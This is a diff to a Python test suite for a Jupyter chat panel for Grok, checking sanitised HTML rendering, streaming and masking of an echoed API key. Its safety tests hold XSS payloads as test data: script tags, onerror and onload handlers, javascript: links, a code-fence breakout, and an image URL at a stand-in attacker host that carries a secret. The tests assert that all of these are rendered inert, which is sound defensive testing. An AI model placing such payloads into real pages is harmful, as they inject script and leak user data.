@@ -4,9 +4,11 @@ from __future__ import annotations
 
 import _thread
 import datetime
+import html
 import io
 import threading
 import time
+from html.parser import HTMLParser
 from unittest import mock
 
 import ipywidgets as widgets
@@ -22,13 +24,19 @@ from grok_magic.errors import (
     MissingKeyError,
     StreamInterruptedError,
 )
-from grok_magic.panel import AnswerView, ChatPanel
+from grok_magic.notebook.panel import AnswerView, ChatPanel
 from grok_magic.settings import Settings
 
 SLOW_TEXT = " ".join(f"word{i}" for i in range(400))  # ~400 events: 20 s at 0.05 s each
 XSS = (
     'Look: <img src=x onerror="window.__grok_xss=1"> and <script>window.__grok_xss=2</script> '
     "**bold** ![leak](https://attacker.example/p.png?q=secret)"
+)
+HOSTILE = XSS + (
+    "\n\n[click me](javascript:alert(1)) [press](  JaVaScRiPt:alert(2)) "
+    '<a href="javascript:alert(3)">x</a> <svg onload="window.__grok_xss=4"></svg>\n\n'
+    "```html\n</code></pre><script>window.__grok_xss=5</script>\n```\n\n"
+    "![p](javascript:alert(6)) ![q](data:image/png;base64,AAAA)"
 )
 
 
@@ -52,10 +60,88 @@ def by_class(panel: ChatPanel, css_class: str) -> list[widgets.Widget]:
     return [w for w in all_widgets(panel.widget) if css_class in getattr(w, "_dom_classes", ())]
 
 
-def shown_markdown(panel: ChatPanel) -> str:
-    """Every Markdown block of the last answer, joined."""
-    view = panel._last.answer_view
-    return "".join(o.outputs[0]["data"]["text/markdown"] for o in view.block_widgets if o.outputs)
+def answer_of(panel: ChatPanel) -> AnswerView:
+    """The answer view of the panel's last exchange."""
+    return panel._last.view.answer
+
+
+def shown_outputs(view: AnswerView) -> list[dict]:
+    """The data of every Output widget of an answer that shows something, in order."""
+    found = []
+    for block in view.block_widgets:
+        if block.outputs:
+            (output,) = block.outputs
+            assert output["output_type"] == "display_data"
+            found.append(output["data"])
+    return found
+
+
+def shown_text(panel_or_view: ChatPanel | AnswerView) -> str:
+    """The answer as shown, once it has ended: the `text/plain` twins of its blocks, joined.
+
+    Every block is final then, so each carries both `text/html` and `text/plain` (and never
+    `text/markdown`: model text is only ever shown as our sanitised HTML).
+    """
+    view = answer_of(panel_or_view) if isinstance(panel_or_view, ChatPanel) else panel_or_view
+    outputs = shown_outputs(view)
+    for data in outputs:
+        assert set(data) == {"text/html", "text/plain"}, set(data)
+    return "".join(data["text/plain"] for data in outputs)
+
+
+def shown_html(panel_or_view: ChatPanel | AnswerView) -> str:
+    """The `text/html` of every block of the answer, joined (while streaming too)."""
+    view = answer_of(panel_or_view) if isinstance(panel_or_view, ChatPanel) else panel_or_view
+    return "".join(data["text/html"] for data in shown_outputs(view))
+
+
+class Page(HTMLParser):
+    """What a browser would build from some HTML: its elements (tag, attributes) and its text."""
+
+    def __init__(self, markup: str) -> None:
+        super().__init__(convert_charrefs=True)
+        self.elements: list[tuple[str, dict[str, str]]] = []
+        self.texts: list[str] = []
+        self.feed(markup)
+        self.close()
+
+    def handle_starttag(self, tag, attrs) -> None:
+        self.elements.append((tag, {name: value or "" for name, value in attrs}))
+
+    handle_startendtag = handle_starttag
+
+    def handle_data(self, data) -> None:
+        self.texts.append(data)
+
+    @property
+    def text(self) -> str:
+        return "".join(self.texts)
+
+    def find(self, tag: str) -> list[dict[str, str]]:
+        return [attrs for t, attrs in self.elements if t == tag]
+
+
+ACTIVE_TAGS = {"script", "style", "iframe", "object", "embed", "svg", "math", "form", "input",
+               "button", "link", "meta", "base", "frame", "video", "audio", "source", "template"}
+
+
+def assert_inert(markup: str, allowed_images=()) -> Page:
+    """No live HTML in `markup`: no active element, no event handler, no link other than
+    http(s)/mailto, no image but the ones the user sent."""
+    page = Page(markup)
+    for tag, attrs in page.elements:
+        assert tag not in ACTIVE_TAGS, (tag, markup)
+        for name, value in attrs.items():
+            assert not name.startswith("on"), (tag, name, markup)
+            assert name not in ("srcdoc", "formaction", "action", "xlink:href"), (tag, name)
+            if name in ("href", "src"):
+                scheme = "".join(html.unescape(value).split()).lower().partition(":")[0]
+                assert scheme in ("http", "https", "mailto"), (tag, name, value)
+            if name == "style":
+                assert "url(" not in value.lower() and "expression" not in value.lower()
+        if tag == "img":
+            assert attrs.get("src") in set(allowed_images), (attrs, markup)
+    return page
 
 
 def png_bytes(size=(40, 30), color=(200, 30, 30)) -> bytes:
@@ -89,7 +175,10 @@ def test_send_streams_markdown_and_returns_the_response(panel, xai_env):
         {"role": "user", "content": "Hi there"},
         {"role": "assistant", "content": response.text},
     ]
-    assert "Hello **world**" in shown_markdown(panel)
+    assert shown_text(panel) == "Hello **world**\n\nSecond paragraph."
+    page = assert_inert(shown_html(panel))
+    assert " ".join(page.text.split()) == "Hello world Second paragraph."  # rendered, not source
+    assert "<strong>world</strong>" in shown_html(panel) and len(page.find("p")) == 2
     user, answer = panel.transcript.children
     assert "grok-user" in user._dom_classes and "grok-answer" in answer._dom_classes
     assert not panel.busy and not panel.send_button.disabled and panel.stop_button.disabled
@@ -159,9 +248,9 @@ def test_widgets_are_updated_from_the_worker_thread_without_output_capture(panel
     threads = set()
     original = AnswerView._set
 
-    def spy(self, text):
+    def spy(self, html_text, text=None):
         threads.add(threading.current_thread().name)
-        return original(self, text)
+        return original(self, html_text, text)
 
     with mock.patch.object(AnswerView, "_set", spy):
         panel.send("go")
@@ -176,10 +265,12 @@ def test_updates_are_throttled_and_finished_blocks_frozen(panel, xai_env):
     started = time.monotonic()
     panel.send("long")
     elapsed = time.monotonic() - started
-    view = panel._last.answer_view
+    view = answer_of(panel)
     assert view.updates <= elapsed / 0.1 + 5  # ~10 updates a second at most
     assert len(view.block_widgets) > 1  # finished paragraphs were frozen
-    assert shown_markdown(panel) == text
+    assert shown_text(panel) == text
+    page = assert_inert(shown_html(panel))
+    assert len(page.find("p")) == 150 and "Paragraph 149 word" in page.text
 
 
 def test_frozen_blocks_are_grouped_so_each_addition_stays_small():
@@ -191,10 +282,12 @@ def test_frozen_blocks_are_grouped_so_each_addition_stays_small():
         view.feed(paragraph + "\n\n")
     view.finish()
     groups = view.blocks.children
-    assert len(view.block_widgets) == 41 and len(groups) == 3
+    # A block is frozen once the next one starts (the parser's own split), so the last paragraph
+    # stays the tail until the answer ends: 39 frozen blocks and the final tail.
+    assert len(view.block_widgets) == 40 and len(groups) == 3
     assert all(len(g.children) <= 16 for g in groups)
-    assert "".join(b.outputs[0]["data"]["text/markdown"] for b in view.block_widgets if b.outputs) \
-        == "".join(p + "\n\n" for p in paragraphs)
+    assert shown_text(view) == "".join(p + "\n\n" for p in paragraphs)
+    assert len(Page(shown_html(view)).find("p")) == 40
     assert view.updates == 41
 
 
@@ -203,14 +296,15 @@ def test_stop_mid_stream_keeps_the_partial_answer_marked_stopped(panel, xai_env)
     xai_env.enqueue(Reply(content=SLOW_TEXT, delay=0.05))
     panel.input.value = "Tell me a long story"
     panel.send_button.click()
-    wait_until(lambda: "word3" in shown_markdown(panel))
+    wait_until(lambda: "word3" in Page(shown_html(panel)).text)  # the live tail: HTML only
     started = time.monotonic()
     panel.stop_button.click()
     response = panel.wait(10)
     assert time.monotonic() - started < 2
     assert response.stopped and response.partial
     assert response.text and response.text != SLOW_TEXT
-    assert response.text.strip() in shown_markdown(panel)
+    assert shown_text(panel) == response.text
+    assert response.text.strip() in Page(shown_html(panel)).text
     (note,) = by_class(panel, "grok-stopped")
     assert "Stopped" in note.value
     assert panel.conversation.messages == []  # a partial answer never joins the history
@@ -287,7 +381,8 @@ def test_stream_cut_mid_answer_keeps_partial_text_marked_incomplete(panel, xai_e
     panel.wait(10)
     assert isinstance(panel.error, StreamInterruptedError)
     (note,) = by_class(panel, "grok-incomplete")
-    assert "Incomplete" in note.value and "one" in shown_markdown(panel)
+    assert "Incomplete" in note.value and "one" in shown_text(panel)
+    assert shown_text(panel) == panel._last.response.text and "one" in Page(shown_html(panel)).text
     assert panel.input.value == "q" and panel.conversation.messages == []
 
 
@@ -300,14 +395,39 @@ def test_send_of_nothing_is_refused(panel):
 
 # -- safety ---------------------------------------------------------------------------------
 def test_model_html_never_reaches_the_page_as_html(panel, xai_env):
-    xai_env.enqueue(Reply(content=XSS))
-    panel.send("hi")
-    markdown = shown_markdown(panel)
-    assert "<script" not in markdown and "<img" not in markdown and "onerror" not in markdown
-    assert "![leak]" not in markdown and "[leak](https://attacker.example" in markdown
-    assert "**bold**" in markdown
+    """Every HTML the answer's widgets receive, each streamed tail included, is inert."""
+    xai_env.enqueue(Reply(content=HOSTILE, chunk_chars=3, delay=0.001))
+    pushed: list[str] = []
+    original = AnswerView._set
+
+    def spy(self, html_text, text=None):
+        pushed.append(html_text)
+        return original(self, html_text, text)
+
+    with mock.patch.object(AnswerView, "_set", spy):
+        panel.send("hi")
+    assert len(pushed) >= 2  # the live tail was shown before the answer ended
+    for markup in pushed:
+        assert "<script" not in markup.lower() and "<svg" not in markup.lower()
+        assert_inert(markup)  # no images at all: the user sent none
+    final = shown_html(panel)
+    page = assert_inert(final)
+    assert page.find("img") == [] and page.find("script") == []
+    assert all(not name.startswith("on") for _tag, attrs in page.elements for name in attrs)
+    # Model HTML shows as the text it is; the Markdown around it still renders.
+    assert '<img src=x onerror="window.__grok_xss=1">' in page.text
+    assert "<script>window.__grok_xss=2</script>" in page.text
+    assert "<strong>bold</strong>" in final
+    # An image the user did not send becomes a link (loading it could leak data) ...
+    (leak,) = [a for a in page.find("a") if "attacker.example" in a["href"]]
+    assert leak["href"] == "https://attacker.example/p.png?q=secret"
+    # ... and no link may run script.
+    hrefs = [a["href"] for a in page.find("a")]
+    assert all(h.startswith(("https://", "http://", "mailto:")) for h in hrefs), hrefs
+    assert "click me" in page.text and "press" in page.text
+    assert shown_text(panel) == HOSTILE  # the plain twin is the answer as sent, never HTML
     for w in all_widgets(panel.widget):
-        if isinstance(w, widgets.HTML):
+        if isinstance(w, widgets.HTML):  # notes, usage, totals: nothing of the answer
             assert "__grok_xss" not in w.value and "attacker" not in w.value
 
 
@@ -315,8 +435,22 @@ def test_images_the_user_sent_by_url_may_show(panel, xai_env):
     url = xai_env.serve_bytes("cat.png", png_bytes(), "image/png").replace("127.0.0.1", "example.com")
     xai_env.enqueue(Reply(content=f"Here: ![cat]({url}) and ![x](https://other.example/x.png)"))
     panel.send("look", images=[{"type": "image_url", "image_url": {"url": url}}])
-    markdown = shown_markdown(panel)
-    assert f"![cat]({url})" in markdown and "![x]" not in markdown
+    page = assert_inert(shown_html(panel), allowed_images={url})
+    assert page.find("img") == [{"src": url, "alt": "cat"}]
+    assert [a["href"] for a in page.find("a")] == ["https://other.example/x.png"]
+    assert shown_text(panel) == f"Here: ![cat]({url}) and ![x](https://other.example/x.png)"
+
+
+def test_a_later_answer_may_not_show_an_image_sent_only_in_a_later_turn(panel, xai_env):
+    """Images are allowed per answer: only URLs the user had sent by then."""
+    url = "https://example.com/later.png"
+    xai_env.enqueue(Reply(content=f"Guess: ![later]({url})"), Reply(content=f"Now: ![later]({url})"))
+    panel.send("first")
+    first = answer_of(panel)
+    assert_inert(shown_html(first))
+    assert Page(shown_html(first)).find("img") == []
+    panel.send("second", images=[{"type": "image_url", "image_url": {"url": url}}])
+    assert Page(shown_html(panel)).find("img") == [{"src": url, "alt": "later"}]
 
 
 # -- images ---------------------------------------------------------------------------------
@@ -428,6 +562,10 @@ def test_shared_conversation_shows_its_history_and_grows(xai_env):
                        {"role": "assistant", "content": "earlier **answer**"}]
     panel = ChatPanel(conversation=convo, models=["grok-4"])
     assert panel.system == "Be brief." and len(panel.transcript.children) == 2
+    earlier = [w for w in all_widgets(panel.transcript.children[1]) if isinstance(w, widgets.Output)]
+    (data,) = [o.outputs[0]["data"] for o in earlier if o.outputs]
+    assert data["text/plain"] == "earlier **answer**"
+    assert "<strong>answer</strong>" in data["text/html"] and assert_inert(data["text/html"])
     panel.send("now")
     assert panel.conversation is convo and len(convo.messages) == 4
     assert xai_env.chat_requests[-1].json["messages"][0]["content"] == "Be brief."
@@ -445,7 +583,7 @@ def test_panel_displays_as_a_widget(panel):
 def test_grok_chat_magic_shows_a_panel_sharing_the_conversation(xai_env):
     from IPython.core.interactiveshell import InteractiveShell
 
-    from grok_magic.magics import GrokMagics
+    from grok_magic.notebook.magics import GrokMagics
 
     shell = InteractiveShell.instance()
     magics = GrokMagics(shell=shell)
@@ -456,6 +594,28 @@ def test_grok_chat_magic_shows_a_panel_sharing_the_conversation(xai_env):
     panel._models_thread.join(10)
     panel.send("hello from the panel")
     assert magics.conversation.turns == 1
+
+
+def test_a_key_the_model_echoes_is_masked_even_split_over_updates(xai_env):
+    """The key arriving in pieces, each flushed on its own, is masked in what is shown, in the
+    plain twin (synced state, saved with the notebook) and in Copy Markdown."""
+    import json
+
+    from xai_standin import FAKE_KEY
+
+    p = ChatPanel(model="grok-4.3", models=["grok-4.3"])
+    answer = f"Your key is {FAKE_KEY} — keep it safe."
+    xai_env.enqueue(Reply(content=answer, chunk_chars=4, delay=0.12))
+    p.send("What is my key?")
+    view = answer_of(p)
+    assert view.updates >= 5  # the key was shown over several updates
+    assert shown_text(view) == "Your key is *** — keep it safe."
+    assert FAKE_KEY not in shown_html(view) and "***" in Page(shown_html(view)).text
+    view.copy_button.click()
+    assert view.copy_text.value == "Your key is *** — keep it safe."
+    blob = json.dumps([w.get_state() for w in all_widgets(p.widget)], default=repr)
+    for start in range(len(FAKE_KEY) - 8):
+        assert FAKE_KEY[start:start + 8] not in blob
 
 
 def test_key_never_in_widget_state(xai_env, monkeypatch):
